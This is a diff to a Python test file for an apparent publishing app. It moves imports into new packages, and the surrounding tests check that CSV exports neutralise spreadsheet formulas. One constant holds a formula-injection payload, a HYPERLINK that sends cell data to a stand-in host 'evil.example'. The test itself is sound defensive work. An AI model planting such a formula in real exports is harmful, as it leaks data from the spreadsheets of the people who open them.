@@ -15,8 +15,10 @@ from urllib.parse import urlsplit
 import pytest
 from sqlmodel import select
 
-from publisher import accounts, dashboard, ledger, stats, workflow
+from publisher import accounts
+from publisher.counting import dashboard, ledger, periods, stats
 from publisher.models import ApiToken, Item, WebSession
+from publisher.pipeline import workflow
 from tests.web.conftest import PASSWORD, make_item
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -151,7 +153,7 @@ def test_bad_input_at_the_edges_answers_4xx_with_a_message(app, client, login):
 
 # ------------------------------------------------------------------------------- 16. CSV formulas
 def test_cell_rule():
-    from publisher import csvcells
+    from publisher.counting import csvcells
 
     for bad in ('=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=1"):
         assert csvcells.cell(bad).startswith("'"), bad
@@ -173,8 +175,8 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
 def test_every_csv_export_neutralises_formulas(app, client, login):
-    from publisher import report
-    from publisher.dispatch import Dispatcher
+    from publisher.counting import report
+    from publisher.pipeline.dispatch import Dispatcher
 
     with app.session() as s:  # a category named like a formula reaches the count tables
         workflow.add_department(s, "+1+2", actor="test")
@@ -191,7 +193,7 @@ def test_every_csv_export_neutralises_formulas(app, client, login):
         for t in ("department", "failures")
     }
     texts["ledger"] = ledger.export_csv(app.engine, app.settings.zone)
-    s, e = stats.period(f"{year - 1}-01-01", f"{year + 1}-12-31", app.settings.zone)
+    s, e = periods.period(f"{year - 1}-01-01", f"{year + 1}-12-31", app.settings.zone)
     rows = stats.counts(app.engine, stats.StatsQuery(start=s, end=e, by=("department",), tz=app.settings.zone))
     texts["stats"] = stats.render(rows, ["department"], "csv")
     rep = report.build(app.engine, app.settings, start=f"{year - 1}-01-01", end=f"{year + 1}-12-31")
@@ -208,7 +210,7 @@ def test_every_csv_export_neutralises_formulas(app, client, login):
 
 def test_ledger_export_still_imports_to_the_same_titles(app):
     make_item(app, stage="scheduled", publish_at=datetime.now(UTC), title=EVIL)
-    from publisher.dispatch import Dispatcher
+    from publisher.pipeline.dispatch import Dispatcher
 
     Dispatcher(engine=app.engine, ctx=app.ctx).run(once=True)
     text = ledger.export_csv(app.engine, app.settings.zone)
